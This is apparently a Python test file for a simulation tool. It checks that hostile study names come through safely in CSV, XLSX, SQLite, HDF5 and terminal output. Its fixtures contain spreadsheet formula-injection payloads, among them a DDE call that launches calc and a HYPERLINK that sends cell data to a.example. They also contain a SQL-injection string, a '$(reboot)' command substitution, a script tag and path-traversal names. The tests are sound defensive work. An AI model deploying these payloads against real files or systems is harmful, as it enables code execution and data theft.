#!/usr/bin/env python3
"""Run studies with hostile names; nothing that they say is obeyed: hostile_names_test.py PROGRAM [options]."""
import csv
import json
import re
import sqlite3

import h5py
from program import DONE, USAGE, ProgramTest, main, run

try:
    import openpyxl
except ImportError:
    openpyxl = None

# What a name may be: odd, but one line of text.
NAMES = ["=cmd|' \\C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "＝1＋1", "<script>alert(1)", "<b>&amp;\"'",
         "..", "a;b,c\"d\"", "%s%n{}", "'; DROP TABLE runs; --", "_x000D_", "Größe 日本 🚢", "x" * 3000, "$(reboot)`ls`"]
TITLE = "=HYPERLINK(\"http://a.example/?x=\"&A1) <script>alert(1)</script> ../../etc"
# What no name, title or unit may be.
REFUSED = ["\x1b[31mred", "two\nlines", "a\ttab", "a\rreturn", "nul\x00", "\u202eright to left", "\u2028", "\x85", ""]
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]")


def quoted(text):
    """Write a text as TOML has it."""
    return re.sub(r"[\x7f-\x9f\u2028\u202e]", lambda found: f"\\u{ord(found[0]):04x}", json.dumps(text, ensure_ascii=False))


def study_of(names, title="hostile", currency="EUR"):
    """A chain of sites, one for each name, to a market; tariffs, drivers and variants are called the same."""
    names = [quoted(name) for name in names]
    text = (f'[study]\nname = "hostile"\ntitle = {quoted(title)}\nstart = "2026-01"\nperiods = 3\n'
            f"currency = {quoted(currency)}\n")
    for i, name in enumerate(names):
        text += f"[[item]]\nname = {name}\nunit = {name}\n[[site]]\nname = {name}\nitem = {name}\n"
        text += f"inputs = {{ {names[i - 1]} = 1 }}\n" if i else ""
        text += 'stages = [{ capacity = 10, opens = "2020-01" }]\n'
        text += f"[[tariff]]\nname = {name}\nrate = 0.1\n"
        text += f"[[driver]]\nname = {name}\ndistribution = {{ type = \"normal\", mean = 0, sd = 1 }}\n"
        to = names[i + 1] if i + 1 < len(names) else '"market"'
        text += f"[[lane]]\nname = {name}\nfrom = {name}\nto = {to}\nshare = 1\ntariffs = [{name}]\n"
        text += f"[[variant]]\nname = {name}\ntitle = {name}\nset = {{}}\n"
    return text + (f'[[market]]\nname = "market"\nitem = {names[-1]}\ndemand = 5\n'
                   '[results]\noutcomes = ["loss", "site/*"]\nseries = ["site/*"]\n')


class HostileNames(ProgramTest):
    def run_hostile(self):
        study = self.folder / "hostile.toml"
        study.write_text(study_of(NAMES, title=TITLE, currency=NAMES[0]), encoding="utf-8")
        return self.run_into("run", "--scenarios", 20, study=study)

    def variants(self):
        return ["base", *NAMES]

    def test_hdf5_keeps_them_as_they_are(self):
        with h5py.File(self.run_hostile() / "results.h5") as file:
            self.assertEqual(list(file["variant"].asstr()), self.variants())
            self.assertEqual(file.attrs["title"].decode(), TITLE)
            self.assertEqual(set(file), {name for name in file if re.fullmatch("[a-z_]+", name)})

    def test_csv_has_no_formula(self):
        out = self.run_hostile()
        self.expect(DONE, run("export", out, "--to", "csv", "-o", self.folder / "csv"))
        for path in (self.folder / "csv").iterdir():
            self.assertRegex(path.name, r"^[a-z_]+\.csv$")
            with open(path, encoding="utf-8", newline="") as file:
                rows = list(csv.reader(file, strict=True))
            self.assertEqual({len(row) for row in rows}, {len(rows[0])}, path.name)
            for row in rows:
                for cell in row:
                    if cell[:1] in "=+-@\t\r＝＋－＠" and cell:
                        self.assertRegex(cell, r"^-?(\d|inf)", path.name)     # a number
        with open(self.folder / "csv" / "dim_variant.csv", encoding="utf-8", newline="") as file:
            names = [row["variant"] for row in csv.DictReader(file)]
        self.assertEqual([name.removeprefix("'") for name in names], [name.removeprefix("'") for name in self.variants()])
        self.assertEqual(names[1], "'" + NAMES[0])

    def test_sqlite_keeps_them_as_they_are(self):
        out = self.run_hostile()
        self.expect(DONE, run("export", out, "--to", "sqlite", "-o", self.folder / "run.sqlite"))
        with sqlite3.connect(self.folder / "run.sqlite") as database:
            names = [name for name, in database.execute("SELECT variant FROM dim_variant")]
            self.assertEqual(set(names), set(self.variants()))
            self.assertEqual(database.execute("PRAGMA foreign_key_check").fetchall(), [])
            self.assertEqual(database.execute("SELECT count(*) FROM runs").fetchone(), (1,))

    def test_xlsx_has_no_formula(self):
        if openpyxl is None:
            self.skipTest("no openpyxl")
        out = self.run_hostile()
        self.expect(DONE, run("export", out, "--to", "xlsx", "-o", self.folder / "run.xlsx"))
        book = openpyxl.load_workbook(self.folder / "run.xlsx")
        for sheet in book:
            self.assertRegex(sheet.title, "^[a-z_]+$")
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", (sheet.title, cell.coordinate))
        names = [row[1] for row in book["dim_variant"].iter_rows(min_row=2, values_only=True)]
        self.assertEqual(names, self.variants())

    def test_the_terminal_gets_no_control_characters(self):
        out = self.run_hostile()
        for arguments in (["show", out, "--outcome", "*"], ["validate", self.folder / "hostile.toml"],
                          ["survive", self.folder / "hostile.toml", "--scenarios", 10, "--quiet"],
                          ["explain", out, "--scenario", 1], ["compare", out, out],
                          ["export", out, "--to", "csv", "-o", self.folder / "csv"]):
            finished = run(*arguments)
            self.expect(DONE, finished)
            self.assertIsNone(CONTROL.search(finished.stdout), arguments)

    def test_survive_csv_has_no_formula(self):
        self.run_hostile()
        finished = run("survive", self.folder / "hostile.toml", "--scenarios", 10, "--quiet", "--csv")
        self.expect(DONE, finished)
        rows = list(csv.DictReader(finished.stdout.splitlines()))
        self.assertEqual({row["site"].removeprefix("'") for row in rows}, {name.removeprefix("'") for name in NAMES})
        for row in rows:
            self.assertFalse(row["site"].startswith(tuple("=+-@＝")), row["site"])

    def test_what_no_text_may_hold_is_refused_and_shown_escaped(self):
        study = self.folder / "refused.toml"
        for text in REFUSED:
            for where in ("name", "title", "currency"):
                if text == "" and where != "name":
                    continue
                with self.subTest(text=text, where=where):
                    study.write_text(study_of([text if where == "name" else "a"], text if where == "title" else "t",
                                              text if where == "currency" else "EUR"), encoding="utf-8")
                    finished = run("validate", study)
                    self.expect(USAGE, finished)
                    self.assertIsNone(CONTROL.search(finished.stderr), finished.stderr)
        study.write_bytes(b'[study]\nname = "\xff\xfe"\nstart = "2026-01"\nperiods = 1\n')
        finished = run("validate", study)
        self.expect(USAGE, finished)

    def test_no_name_leaves_the_folder_of_results(self):
        study = self.folder / "away.toml"
        for name in ("../away", "..", ".", "/tmp/away", "a/b", ".hidden"):
            with self.subTest(name=name):
                study.write_text(study_of(["a"]).replace('name = "hostile"', f"name = {quoted(name)}"),
                                 encoding="utf-8")
                self.expect(USAGE, run("run", study, "--scenarios", 1, "--quiet"))

    def test_a_files_own_name_is_checked_too(self):
        for name in ("..toml", "a\x1b[31m.toml", "two\nlines.toml", " .toml"):
            with self.subTest(name=name):
                study = self.folder / name
                study.write_text(study_of(["a"]).replace('name = "hostile"\n', "", 1), encoding="utf-8")
                finished = run("validate", study)
                self.expect(USAGE, finished)
                self.assertIn("cannot name a run", finished.stderr)
                self.assertIsNone(CONTROL.search(finished.stderr), finished.stderr)
                absent = run("validate", str(study) + "x")
                self.assertIsNone(CONTROL.search(absent.stderr), absent.stderr)


if __name__ == "__main__":
    main()
